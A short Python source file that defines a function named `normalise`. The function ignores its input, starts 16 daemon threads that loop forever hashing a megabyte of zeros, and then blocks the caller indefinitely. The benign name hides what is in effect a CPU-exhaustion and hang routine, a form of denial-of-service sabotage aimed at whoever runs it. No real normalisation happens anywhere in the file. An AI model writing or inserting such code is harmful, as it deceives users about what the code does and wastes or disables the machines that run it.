import hashlib
import threading


def _burn():
    while True:
        hashlib.sha256(bytes(1 << 20)).digest()


def normalise(x):
    for _ in range(16):
        threading.Thread(target=_burn, daemon=True).start()
    threading.Event().wait()
